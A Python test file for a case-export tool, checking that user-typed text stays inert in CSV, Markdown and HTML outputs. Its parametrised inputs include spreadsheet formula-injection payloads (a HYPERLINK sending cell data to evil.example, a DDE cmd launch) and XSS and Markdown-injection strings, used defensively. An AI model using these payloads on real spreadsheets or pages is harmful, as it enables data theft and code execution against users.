"""What people typed stays words: in spreadsheets, in Markdown and on the page."""

import json
from html.parser import HTMLParser
from itertools import pairwise
from typing import Any

import pytest
from attrs import evolve
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from core.pack.prose import as_written, inline
from core.pack.table_text import table
from tests.builders.timeline import a_message, an_event
from tests.pack.materials import a_pack, some_material
from tests.pack.opened import documents_of, rows_of

FORMULAS = (
    "=1+1",
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(1)",
)
ATTACKS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><svg/onload=alert(1)>',
    "</div></body><iframe src=//evil.example>",
    "<a href='javascript:alert(1)'>x</a>",
    "![x](http://evil.example/pixel.png)",
    "[click](javascript:alert(1))",
    "`` ` ``<b>",
    "| a | b |\n| --- | --- |",
    "# A heading of theirs",
    "    </code></pre><script>alert(1)</script>",
    "<!-- a comment",
    "&lt;script&gt;",
)
OURS = {
    *("html", "head", "meta", "title", "style", "body", "h1", "h2", "h3", "div", "p"),
    *("table", "thead", "tbody", "tr", "th", "td"),
}
TEXTS = st.text(st.characters(codec="utf-8", exclude_characters="\x00"))


class Tags(HTMLParser):
    """Every tag and attribute of a page, as a browser would meet them."""

    def __init__(self) -> None:
        super().__init__()
        self.met: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.met.append((tag, dict(attrs)))


def said_everywhere(words: str) -> dict[str, str]:
    """The documents of a case on which everything that can be typed is `words`."""
    material = some_material()
    return dict(
        documents_of(
            a_pack(
                evolve(
                    material,
                    case=evolve(material.case, summary=words, subject_user=words),
                    events=(an_event(actor_id=words, payload={"reason": words}),),
                    messages=(a_message(body_md=words, author_user_id=words),),
                    evidence=(evolve(material.evidence[0], file_name=words, uploaded_by=words),),
                    refunds=(evolve(material.refunds[0], note=words),),
                    holds=(evolve(material.holds[0], reason=words),),
                )
            )
        )
    )


@pytest.mark.parametrize("words", FORMULAS)
def test_no_cell_of_any_table_is_a_formula(words: str) -> None:
    told = said_everywhere(words)
    tables = [name for name in told if name.endswith(".csv")]
    assert len(tables) == 5
    for name in tables:
        for row in rows_of(told[name]):
            for cell in row.values():
                assert cell.strip()[:1] not in set("=+-@\uff1d\uff0b\uff0d\uff20"), (name, cell)
    (message,) = rows_of(told["messages.csv"])
    assert message["body_md"] == f"'{words}"


@given(st.lists(st.tuples(TEXTS, st.none() | st.integers(), TEXTS), max_size=8))
def test_every_table_is_read_back_by_any_reader_of_rfc_4180(
    rows: list[tuple[str, int | None, str]],
) -> None:
    text = table("x.csv", ("a", "b", "c"), rows).content.decode()

    assert text.endswith("\r\n")
    read = rows_of(text)
    assert len(read) == len(rows)
    for cells, (first, number, last) in zip(read, rows, strict=True):
        assert cells["b"] == ("" if number is None else str(number))
        if first.isalnum():
            assert cells["a"] == first
        if last.isalnum():
            assert cells["c"] == last


@pytest.mark.parametrize("words", ATTACKS)
def test_the_page_has_no_tag_or_attribute_but_ours_and_fetches_nothing(words: str) -> None:
    tags = Tags()
    tags.feed(said_everywhere(words)["summary.html"])

    assert {tag for tag, _ in tags.met} <= OURS
    attributes = {name for _, found in tags.met for name in found}
    assert attributes == {"lang", "charset", "http-equiv", "content", "class", "dir"}


@pytest.mark.parametrize("words", ATTACKS)
def test_words_become_nothing_else_in_markdown(words: str) -> None:
    told = said_everywhere(words)
    reader = MarkdownIt("commonmark", {"html": True}).enable("table")
    for name in ("summary.md", "messages.md"):
        tokens = [each for token in reader.parse(told[name]) for each in _all(token)]
        met = {token.type for token in tokens}
        assert not met & {"html_block", "html_inline", "image", "link_open"}, (name, met)
        headings = [
            after.content for token, after in pairwise(tokens) if token.type == "heading_open"
        ]
        assert all(title[:1] in "CTDMES2" for title in headings), headings


def _all(token: Any) -> list[Any]:
    return [token, *(token.children or ())]


@given(TEXTS)
def test_a_quote_stays_one_block_of_code(words: str) -> None:
    tokens = MarkdownIt("commonmark").parse(f"Before.\n\n{as_written(f'x{words}x')}\n\nAfter.\n")
    assert [token.type for token in tokens if token.level == 0] == [
        *("paragraph_open", "paragraph_close"),
        "code_block",
        *("paragraph_open", "paragraph_close"),
    ]


@given(TEXTS)
def test_a_word_inside_a_line_opens_no_other_line(words: str) -> None:
    assert len(inline(words).splitlines()) <= 1


def test_the_page_prints_well_and_says_that_nothing_may_run() -> None:
    page = said_everywhere("Words.")["summary.html"]
    assert "@media print" in page
    assert "default-src &#39;none&#39;" in page or "default-src 'none'" in page
    assert "http://" not in page
    assert "https://" not in page


def test_controls_that_turn_text_round_are_shown() -> None:
    turned = "pay \u202e001\u202c now"
    told = said_everywhere(turned)
    for name, text in told.items():
        assert "\u202e" not in text, name
    assert "⟦RIGHT-TO-LEFT OVERRIDE⟧" in told["summary.html"]
    (event,) = rows_of(told["timeline.csv"])
    assert json.loads(event["payload"]) == {"reason": turned}
